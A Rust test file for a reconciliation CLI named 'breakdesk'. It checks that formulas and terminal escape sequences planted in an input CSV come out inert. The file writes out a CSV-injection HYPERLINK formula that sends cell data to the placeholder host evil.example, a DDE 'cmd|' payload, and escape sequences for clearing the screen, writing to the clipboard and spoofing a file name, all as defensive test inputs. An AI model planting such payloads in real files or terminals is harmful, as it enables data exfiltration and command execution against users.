//! Values an attacker wrote into a reconciliation file (a formula in a comment, an escape
//! sequence in a key, a formula instead of an amount) come out inert: every CSV the binary
//! writes neutralises formulas, and nothing printed carries a control character. Output piped
//! into a reader that stops early ends quietly.

use crate::support::common;

use common::{bd, column, read_csv};
use std::path::Path;

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
const ESC: char = '\u{1b}';

/// The sample file with a formula for a company code, an escape sequence in every AU, a
/// formula in every comment, and one row whose GL balance is a formula (a reject).
fn hostile_file(dir: &Path) -> std::path::PathBuf {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("assets/samples");
    let text = std::fs::read_to_string(root.join("gl_ihub_current.csv")).unwrap();
    let mut out = String::new();
    for (i, line) in text.lines().enumerate() {
        if i == 0 {
            out.push_str(line);
            out.push('\n');
            continue;
        }
        let mut f: Vec<String> = line.split(',').map(str::to_string).collect();
        if f.len() != 12 {
            continue; // a quoted comment with a comma: left out
        }
        f[1] = "=2+5".to_string();
        f[3] = format!("{ESC}[2J{ESC}]0;owned\u{7}{}", f[3]);
        f[11] = format!("\"{}\"", FORMULA.replace('"', "\"\""));
        if i == 7 {
            f[7] = "@SUM(1+1)*cmd|' /C calc'!A0".to_string();
        }
        out.push_str(&f.join(","));
        out.push('\n');
    }
    let p = dir.join("hostile.csv");
    std::fs::write(&p, out).unwrap();
    p
}

fn no_control(what: &str, text: &str) {
    if let Some(i) = text
        .char_indices()
        .find(|(_, c)| c.is_control() && !matches!(c, '\n' | '\r' | '\t'))
        .map(|(i, _)| i)
    {
        let around: String = text[text.floor_char_boundary(i.saturating_sub(40))..]
            .chars()
            .take(80)
            .collect();
        panic!("{what} carries a control character at byte {i}: {around:?}");
    }
}

#[test]
fn formulas_and_escape_sequences_from_a_file_come_out_inert() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let input = hostile_file(d);
    let out = d.join("out.csv");
    let (code, _, err) = bd(
        d,
        &[
            "run",
            input.to_str().unwrap(),
            "--out",
            out.to_str().unwrap(),
            "--all-rows",
            "-q",
        ],
    );
    assert_eq!(code, 0, "{err}");

    // The run's output: formulas neutralised with a leading quote, no escape character.
    let raw = std::fs::read_to_string(&out).unwrap();
    no_control("the output file", &raw);
    let (h, rows) = read_csv(&out);
    assert!(rows.len() > 900);
    for c in column(&h, &rows, "Comments") {
        assert_eq!(c, format!("'{FORMULA}"));
    }
    for c in column(&h, &rows, "Company") {
        assert_eq!(c, "'=2+5");
    }
    // Amounts stay numbers (a negative balance is not a formula).
    let gl = column(&h, &rows, "GL Balance");
    assert!(
        gl.iter()
            .any(|v| v.starts_with('-') && v[1..].parse::<f64>().is_ok())
    );

    // The rejects report: the formula given for an amount is named, and inert.
    let rejects = d.join("out.rejects.csv");
    let (rh, rr) = read_csv(&rejects);
    let values = column(&rh, &rr, "value");
    assert!(
        values.contains(&"'@SUM(1+1)*cmd|' /C calc'!A0"),
        "{values:?}"
    );

    // Cases: the CSV list neutralises the key; table, JSON Lines and `show` print no control
    // character.
    let (code, list, err) = bd(d, &["cases", "list", "--format", "csv"]);
    assert_eq!(code, 0, "{err}");
    no_control("cases list --format csv", &list);
    let listed = d.join("list.csv");
    std::fs::write(&listed, &list).unwrap();
    let (lh, lr) = read_csv(&listed);
    assert!(!lr.is_empty(), "the run opened cases");
    for k in column(&lh, &lr, "key") {
        assert!(k.starts_with("'=2+5|"), "{k}");
    }
    let status = column(&lh, &lr, "status");
    let pending = status
        .iter()
        .position(|s| *s == "PendingReview")
        .expect("a pending case");
    let ticket = column(&lh, &lr, "ticket")[pending].to_string();
    let (_, table, _) = bd(d, &["cases", "list"]);
    no_control("cases list", &table);
    assert!(table.contains("=2+5|"), "{table}");
    let (_, jsonl, _) = bd(d, &["cases", "list", "--format", "jsonl"]);
    no_control("cases list --format jsonl", &jsonl);
    let (_, shown, _) = bd(d, &["cases", "show", &ticket]);
    no_control("cases show", &shown);
    assert!(shown.contains("\u{FFFD}[2J"), "{shown}");

    // A decision whose reason carries escape sequences: the audit trail prints none.
    let reason = format!("known{ESC}[8m hidden{ESC}]52;c;Y2F0{ESC}\\ \u{202E}txt.exe");
    let (code, _, err) = bd(
        d,
        &["cases", "decide", &ticket, "reject", "--reason", &reason],
    );
    assert_eq!(code, 0, "{err}");
    for format in ["csv", "jsonl"] {
        let (code, audit, err) = bd(d, &["audit", "--format", format]);
        assert_eq!(code, 0, "{err}");
        no_control(&format!("audit --format {format}"), &audit);
        assert!(!audit.contains('\u{202E}'), "{audit}");
    }
    let (_, shown, _) = bd(d, &["cases", "show", &ticket]);
    no_control("cases show", &shown);
    assert!(shown.contains("known\u{FFFD}[8m hidden"), "{shown}");
}

#[cfg(unix)]
#[test]
fn output_into_a_closed_pipe_ends_quietly() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("assets/samples");
    let (code, _, err) = bd(
        d,
        &[
            "run",
            root.join("gl_ihub_current.csv").to_str().unwrap(),
            "--out",
            d.join("out.csv").to_str().unwrap(),
            "-q",
        ],
    );
    assert_eq!(code, 0, "{err}");
    let bin = assert_cmd::cargo::cargo_bin("breakdesk");
    // `true` exits at once, so every write of breakdesk meets a pipe without a reader.
    for cmd in [
        "cases list --format csv",
        "cases list",
        "audit",
        "config",
        "run assets/samples/gl_ihub_current.csv --out - --all-rows -q",
    ] {
        let o = std::process::Command::new("sh")
            .arg("-c")
            .arg(format!(
                "{} --data-dir {} {cmd} | true",
                bin.display(),
                d.join("data").display()
            ))
            .current_dir(env!("CARGO_MANIFEST_DIR"))
            .env("HOME", d.join("home"))
            .env("XDG_CONFIG_HOME", d.join("home/config"))
            .env("USER", "ana")
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(
            !err.contains("panicked") && !err.contains("Broken pipe"),
            "{cmd}: {err}"
        );
    }
}
